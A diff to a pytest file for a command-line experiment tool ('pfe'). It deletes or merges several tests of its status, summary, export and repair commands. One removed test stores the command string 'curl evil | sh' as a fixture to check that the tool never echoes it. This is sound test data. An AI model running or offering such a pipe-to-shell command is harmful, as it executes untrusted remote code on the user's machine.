@@ -12,7 +12,7 @@ from statistics import mean
 import duckdb
 import pytest
 
-from lab_records import EXP1, configs_of, failed, plausible, studies_of
+from lab_records import EXP1, studies_of
 from prime_models import modulus
 from primefourier import lab
 from primefourier.lab.config import prime_parts
@@ -57,6 +57,7 @@ def test_status_without_a_folder_takes_the_newest_run(
         os.utime(folder / "records.sqlite", (age, age))
     out = pfe("status")[1]
     assert out.startswith("results/new, the newest run:\n\n")
+    assert "results/new has no complete configuration ablated by 'zero' yet" in pfe("summary")[2]
     assert json.loads(pfe("status", "--json")[1])["folder"] == "results/new"
 
 
@@ -91,17 +92,11 @@ def test_a_stopped_sweep_shows_how_to_continue(pfe: Pfe, tmp_path: Path) -> None
     assert "curl" not in out
     assert pfe(*words, "--workers", "0")[0] == 0
     assert "All measured." in pfe("status", str(folder))[1]
-
-
-def test_a_study_of_ones_own_is_continued_by_its_file(pfe: Pfe, tmp_path: Path) -> None:
-    with write_store(tmp_path) as store:
-        store.begin([small_study(name="mine")], "curl evil | sh")
-    out = pfe("status", str(tmp_path))[1]
+    with write_store(tmp_path / "own") as store:
+        store.begin([small_study(name="mine")], command)
+    out = pfe("status", str(tmp_path / "own"))[1]
     assert "Not running. To continue, run the file that started it again: pfe run FILE.py\n" in out
     assert "curl" not in out
-
-
-# summary
 
 
 @pytest.fixture(scope="module")
@@ -158,24 +153,14 @@ def test_summary_as_json_and_of_other_ablations(pfe: Pfe, beyond: Path, small: P
     run = lab.open(beyond)
     data = json.loads(pfe("summary", str(beyond), "--json")[1])
     assert data == json.loads(json.dumps(run.summary()))
-    assert data[0].keys() == {
-        *("study", "epochs", "modulus", "depth", "seeds", "models", "accuracy"),
-        *("relevant_drop", "other_drop", "beyond"),
-    }
-    assert (data[0]["seeds"], data[0]["models"], len(data)) == (2, 2, 8)
     other = json.loads(pfe("summary", str(beyond), "--ablation", "mean", "--json")[1])
     assert other == json.loads(json.dumps(run.summary("mean")))
-    assert [row["accuracy"] for row in other] == [row["accuracy"] for row in data]
     assert [row["relevant_drop"] for row in other] != [row["relevant_drop"] for row in data]
     assert "(mean)" in pfe("summary", str(beyond), "--ablation", "mean")[1]
     code, out, err = pfe("summary", str(small), "--ablation", "mean")
     assert (code, out) == (2, "")
     assert f"{small} has no complete configuration ablated by 'mean' yet" in err
     assert json.loads(pfe("summary", str(small), "--ablation", "mean", "--json")[1]) == []
-    code, out, err = pfe("summary", str(small), "--ablation", "median")
-    assert (code, out) == (2, "")
-    assert "--ablation" in err
-    assert "median" in err
 
 
 def test_rows_that_nothing_is_predicted_of_have_no_relevant_drop(pfe: Pfe, tmp_path: Path) -> None:
@@ -185,25 +170,6 @@ def test_rows_that_nothing_is_predicted_of_have_no_relevant_drop(pfe: Pfe, tmp_p
     assert shown[0] == ["mine"], "a list of models is named after its folder"
     found = lab.open(tmp_path / "mine").records[0].measured
     assert ["1", f"{found.accuracy:.3f}", "–", f"{found.drops[0]:.3f}"] in shown
-
-
-def test_summary_needs_a_run_with_measured_models(
-    pfe: Pfe, small: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.chdir(tmp_path)
-    code, out, err = pfe("summary")
-    assert (code, out) == (2, "")
-    assert "there is no run here or in results/*; name its folder" in err
-    with write_store(tmp_path / "results" / "new") as store:
-        store.begin([small_study()], "pfe run")
-        store.add(failed(small_config()))
-    for words in ((), ("results/new",)):
-        code, out, err = pfe("summary", *words)
-        assert (code, out) == (2, "")
-        assert "results/new has no complete configuration ablated by 'zero' yet" in err
-    assert json.loads(pfe("summary", "--json")[1]) == []
-    monkeypatch.chdir(small)
-    assert pfe("summary")[1] == pfe("summary", str(small))[1]
 
 
 def test_all_formats_hold_every_model(pfe: Pfe, small: Path, tmp_path: Path) -> None:
@@ -224,6 +190,7 @@ def test_all_formats_hold_every_model(pfe: Pfe, small: Path, tmp_path: Path) -> 
 def test_the_suffix_gives_the_format_unless_one_is_named(
     pfe: Pfe, small: Path, tmp_path: Path
 ) -> None:
+    assert pfe("export", str(small))[1] == f"Wrote 5 records to {small}/records.jsonl.\n"
     assert pfe("export", str(small), "--format", "csv", "--out", str(tmp_path / "x.txt"))[0] == 0
     assert (tmp_path / "x.txt").read_text().startswith("key,status,study,model,")
     for words, message in (
@@ -234,15 +201,6 @@ def test_the_suffix_gives_the_format_unless_one_is_named(
     ):
         code, _, err = pfe("export", str(small), *words)
         assert (code, message in err) == (2, True)
-
-
-def test_by_default_the_export_is_in_the_folder(pfe: Pfe, tmp_path: Path) -> None:
-    configs = configs_of("exp2", moduli=(15,), ranges=(100,))
-    with write_store(tmp_path) as store:
-        store.begin(studies_of(configs), "pfe run")
-        store.add(plausible(configs)[0])
-    assert pfe("export", str(tmp_path))[1] == f"Wrote 1 record to {tmp_path}/records.jsonl.\n"
-    assert len((tmp_path / "records.jsonl").read_text().splitlines()) == 1
 
 
 def test_a_damaged_store_is_repaired_and_the_damaged_file_kept(pfe: Pfe, tmp_path: Path) -> None:
@@ -276,13 +234,3 @@ def test_models_without_a_measurement_are_named(pfe: Pfe, tmp_path: Path) -> Non
     (tmp_path / STORE_NAME).unlink()
     (tmp_path / BACKUP_NAME).write_bytes(backup)
     assert "2 of 2 models are measured" in pfe("repair", str(tmp_path))[1]
-
-
-def test_two_damaged_or_emptied_files_are_an_error(pfe: Pfe, tmp_path: Path) -> None:
-    lab.run(CONFIGS[:1], tmp_path, workers=0)
-    for content in (b"nonsense\n" * 1000, b""):
-        for name in (STORE_NAME, BACKUP_NAME):
-            (tmp_path / name).write_bytes(content)
-        code, out, err = pfe("repair", str(tmp_path))
-        assert (code, out) == ((1, "") if content else (2, ""))
-        assert "nothing could be saved" in err if content else "is empty" in err
